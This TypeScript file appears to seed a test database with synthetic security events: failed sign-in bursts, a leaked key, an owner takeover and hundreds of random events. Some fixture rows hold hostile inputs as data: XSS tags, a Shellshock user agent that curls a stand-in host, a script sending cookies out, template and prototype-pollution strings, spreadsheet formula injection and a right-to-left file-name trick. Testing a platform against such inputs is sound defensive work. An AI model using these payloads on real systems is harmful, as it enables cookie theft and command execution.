import type { SecurityEvent, securityKinds } from '@contract/platform/security-events'
import { chance, pick, whole } from '../draw'
import { sentinels } from '../sentinels'
import { type CastAgent, type CastUser, orgId, type PlatformCast, platformUserId } from './platform-cast'
import type { PlatformSeed } from './platform-world'

type Kind = (typeof securityKinds)[number]
type Severity = 'critical' | 'high' | 'medium' | 'low' | 'info'

const CROWD = 420

/** What is usual: its severities, how it ends, and its words. */
const usual: Record<Kind, { severities: readonly Severity[]; outcomes: readonly string[]; title: string }> = {
  sign_in_failed: { severities: ['low', 'low', 'medium'], outcomes: ['blocked'], title: 'Sign-in failed: wrong password' },
  token_misused: { severities: ['high', 'medium'], outcomes: ['blocked', 'allowed'], title: 'API key used from a new network' },
  privilege_changed: { severities: ['medium', 'high', 'info'], outcomes: ['allowed'], title: 'A member was given the role of an admin' },
  probe_blocked: { severities: ['medium', 'low'], outcomes: ['blocked'], title: 'A request that looks like a probe was blocked' },
  rate_limited: { severities: ['info', 'low'], outcomes: ['blocked'], title: 'Too many requests in a minute' },
  egress_blocked: {
    severities: ['medium', 'high'],
    outcomes: ['blocked'],
    title: 'An agent tried to reach an address that is not allowed',
  },
  bulk_read: { severities: ['medium', 'high', 'low'], outcomes: ['detected'], title: 'More records were read than is usual' },
  webhook_forged: { severities: ['high', 'medium'], outcomes: ['blocked'], title: 'A webhook came with a signature that does not fit' },
  secret_exposed: {
    severities: ['critical', 'high'],
    outcomes: ['detected'],
    title: 'Something that looks like a key was written into a log',
  },
  policy_violated: { severities: ['low', 'medium', 'info'], outcomes: ['detected', 'blocked'], title: 'A policy of the org was not kept' },
}
const kinds = Object.keys(usual) as Kind[]
const agents = ['curl/8.7.1', 'python-requests/2.32', 'Mozilla/5.0 (X11; Linux x86_64)', 'node', 'Go-http-client/2.0']
const found = ['Known: their own test.', 'The key was turned off.', 'Talked to the owner: it was them.', 'Nothing came of it.']

type Stored = Omit<SecurityEvent, 'details'> & { details: unknown }

/** Events of every kind and severity over four weeks: bursts of one actor, what nobody acted, and text that wants to be more than text. */
export const securityEventsSeed: PlatformSeed = {
  tables: `
    CREATE TABLE security_events (
      id TEXT PRIMARY KEY, at TEXT NOT NULL, severity TEXT NOT NULL, kind TEXT NOT NULL, title TEXT NOT NULL, outcome TEXT,
      actor_kind TEXT, actor_id TEXT, actor_name TEXT, ip TEXT, user_agent TEXT, org_id TEXT, workspace_id TEXT,
      subject_type TEXT, subject_id TEXT, acknowledged_at TEXT, acknowledged_by TEXT, acknowledged_reason TEXT, details TEXT
    );
    CREATE INDEX security_events_at ON security_events (at);
  `,
  rows: (cast) => ({ security_events: [...known(cast), ...provoking(cast), ...crowd(cast)] }),
}

const blank: Omit<Stored, 'id' | 'at' | 'severity' | 'kind' | 'title'> = {
  outcome: 'blocked',
  actor_kind: 'unknown',
  actor_id: null,
  actor_name: null,
  ip: null,
  user_agent: null,
  org_id: null,
  workspace_id: null,
  subject_type: null,
  subject_id: null,
  acknowledged_at: null,
  acknowledged_by: null,
  acknowledged_reason: null,
  details: null,
}

/** Those that guides and tests name. */
const known = (cast: PlatformCast): Stored[] => {
  const one = (word: string, hours: number, severity: Severity, kind: Kind, title: string, rest: Partial<Stored> = {}): Stored => ({
    ...blank,
    ...rest,
    id: `sev_practice_${word}`,
    at: cast.ago(hours / 24),
    severity,
    kind,
    title,
  })
  const burst = Array.from({ length: 14 }, (_, n) =>
    one(`burst_${n + 1}`, 5.9 - n * 0.05, n > 9 ? 'high' : 'medium', 'sign_in_failed', 'Sign-in failed: wrong password', {
      actor_name: 'crosser@example.com',
      actor_kind: 'user',
      actor_id: platformUserId('crosser'),
      ip: '203.0.113.77',
      user_agent: 'python-requests/2.32',
      org_id: orgId('acorn'),
      subject_type: 'user',
      subject_id: platformUserId('crosser'),
      details: { attempts: n + 1, second_factor: false, network: 'AS64500' },
    }),
  )
  return [
    one('leak', 3, 'critical', 'secret_exposed', 'A live API key was written into a public repository', {
      outcome: 'detected',
      actor_kind: 'agent',
      actor_id: cast.agents[0]?.id ?? null,
      actor_name: cast.agents[0]?.name ?? null,
      org_id: cast.agents[0]?.org_id ?? orgId('acorn'),
      workspace_id: cast.agents[0]?.workspace_id ?? null,
      subject_type: 'api_key',
      subject_id: 'key_practice_live',
      details: { key_ends_with: '9f2c', found_at: 'https://example.com/acorn/tools/blob/main/.env', revoked: false },
    }),
    one('takeover', 5, 'critical', 'privilege_changed', 'An owner was replaced minutes after a sign-in from a new country', {
      outcome: 'allowed',
      actor_kind: 'user',
      actor_id: platformUserId('crosser'),
      actor_name: 'Cass Crosser',
      ip: '203.0.113.77',
      org_id: orgId('acorn'),
      subject_type: 'org',
      subject_id: orgId('acorn'),
      details: { from_role: 'admin', to_role: 'owner', country_before: 'NL', country_now: 'BR', minutes_since_sign_in: 4 },
    }),
    one('script', 9, 'high', 'probe_blocked', '<script>alert("security")</script> in a display name', {
      actor_name: '<img src=x onerror=alert(1)>',
      ip: '198.51.100.23',
      user_agent: "() { :;}; /bin/bash -c 'curl http://example.com/x'",
      org_id: orgId('script'),
      details: {
        path: '/signup',
        body: `{"display_name":"<script>fetch("//example.com/"+document.cookie)</script>"}`,
        link: 'javascript:alert(document.domain)',
        template: '{{constructor.constructor("return process")().exit()}}',
        '__proto__.polluted': true,
      },
    }),
    one('formula', 11, 'medium', 'probe_blocked', '=HYPERLINK("http://example.com/?"&A1,"Invoice")', {
      actor_name: "=cmd|' /C calc'!A0",
      org_id: orgId('formula'),
      details: { field: 'name', value: "@SUM(1+1)*cmd|' /C calc'!A0" },
    }),
    one('rtl', 13, 'medium', 'bulk_read', 'File “invoice\u202Efdp.exe” was read 4,211 times — تحذير', {
      outcome: 'detected',
      actor_kind: 'user',
      actor_id: platformUserId('arabic'),
      actor_name: 'ليلى بنت عبد الرحمن المصري',
      org_id: orgId('arabic'),
      details: { reads: 4211, usual: 12 },
    }),
    one(
      'long',
      15,
      'low',
      'policy_violated',
      `A policy with a very long name was not kept: ${'no attachments after office hours, '.repeat(12)}`,
      {
        outcome: 'detected',
        actor_kind: 'user',
        actor_id: platformUserId('long-name'),
        actor_name: 'Maximiliana Bartholomea '.repeat(6).trim(),
        org_id: orgId('long'),
        details: { deep: deep(12), long: 'x'.repeat(4000), list: Array.from({ length: 60 }, (_, n) => n) },
      },
    ),
    one('nobody', 20, 'high', 'webhook_forged', 'A webhook came with a signature that does not fit', {
      ip: '2001:db8::bad:cafe',
      subject_type: 'connector',
      subject_id: 'con_practice_unknown',
    }),
    one('other-word', 30, 'info', 'policy_violated', 'A kind of event that a later platform has', {
      actor_kind: 'workflow',
      actor_id: 'wfl_1',
    }),
    ...burst,
  ].map((event) => (event.id.endsWith('other-word') ? { ...event, kind: 'quantum_drift', severity: 'notice' as Severity } : event))
}

const deep = (levels: number): unknown => (levels === 0 ? 'the innermost' : { level: levels, inner: deep(levels - 1) })

/** One for each way a write can fail, so that it can be practised by hand. */
const provoking = (cast: PlatformCast): Stored[] =>
  Object.entries(sentinels).map(([word, { summary }], n) => ({
    ...blank,
    id: `sev_practice_${word}`,
    at: cast.ago(2 + n / 24),
    severity: 'info',
    kind: 'policy_violated',
    title: `Practise: ${summary}`,
    actor_kind: 'system',
    actor_name: 'the platform',
    outcome: 'detected',
  }))

const crowd = (cast: PlatformCast): Stored[] => {
  const random = cast.random('security-events')
  const people = cast.users.filter(({ is_staff }) => !is_staff)
  const orgs = cast.orgs.filter(({ slug }) => slug !== 'empty')
  return Array.from({ length: CROWD }, (_, n): Stored => {
    const kind = pick(random, kinds)
    const { severities, outcomes, title } = usual[kind]
    const org = pick(random, orgs)
    const at = 1 / 24 + (n / CROWD) * 28 + whole(random, 0, 100) / 2000
    const actor = actorOf(kind, pick(random, people), chance(random, 0.4) ? pick(random, cast.agents) : null)
    const done = at > 3 && chance(random, 0.6)
    return {
      ...blank,
      ...actor,
      id: `sev_practice_${String(n + 1).padStart(4, '0')}`,
      at: cast.ago(at),
      severity: pick(random, severities),
      kind,
      title,
      outcome: pick(random, outcomes),
      ip: `198.51.100.${whole(random, 1, 254)}`,
      user_agent: pick(random, agents),
      org_id: org.id,
      subject_type: 'org',
      subject_id: org.id,
      ...(done
        ? { acknowledged_at: cast.ago(at - 1), acknowledged_by: platformUserId('staff'), acknowledged_reason: pick(random, found) }
        : {}),
      details: { count: whole(random, 1, 900), path: pick(random, ['/api/v1/agents', '/login', '/api/v1/files', '/webhooks/store']) },
    }
  })
}

const actorOf = (kind: Kind, user: CastUser, agent: CastAgent | null): Pick<Stored, 'actor_kind' | 'actor_id' | 'actor_name'> => {
  if (kind === 'webhook_forged' || kind === 'probe_blocked') return { actor_kind: 'unknown', actor_id: null, actor_name: null }
  if (agent && kind !== 'sign_in_failed') return { actor_kind: 'agent', actor_id: agent.id, actor_name: agent.name }
  return { actor_kind: 'user', actor_id: user.id, actor_name: user.display_name ?? user.email }
}
